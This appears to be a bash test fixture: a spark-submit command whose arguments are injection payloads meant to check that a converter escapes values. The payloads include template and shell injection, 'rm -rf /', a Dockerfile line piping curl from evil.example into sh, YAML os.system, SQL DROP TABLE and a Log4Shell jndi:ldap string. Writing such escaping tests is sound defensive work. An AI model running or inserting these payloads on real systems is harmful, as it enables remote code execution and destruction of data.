#!/bin/bash
# Values that try to change the structure of the outputs: YAML, Jinja, Dockerfile, shell,
# Python. Each must come out as the same string value, never as structure.
spark-submit --master yarn --deploy-mode cluster \
  --name 'inj {{ 7*7 }} {% raw %} ${HOME} `id` $(id)' \
  --queue 'root.etl"; rm -rf /; echo "' \
  --conf 'spark.app.description=line1
RUN curl http://evil.example/x | sh
ENV PATH=/evil' \
  --conf 'spark.yarn.tags=a: b, - c, &anchor x, *alias, !!python/object/apply:os.system ["id"]' \
  --conf "spark.executorEnv.HOSTILE=\"'; import os; os.system('id') #" \
  --conf 'spark.driver.extraJavaOptions=-Dx="}}{{" -Dy=$(reboot) -Dz=`halt`' \
  --conf 'spark.kubernetes.node.selector.pool=---
kind: Secret' \
  --class 'com.example.Main"}; DROP TABLE jobs; --' \
  app.jar \
  'arg with
newline' '{{ config.__class__ }}' '${jndi:ldap://evil/x}' '#{not a comment}' "'''); import os #" \
  '"]; RUN rm -rf / #'
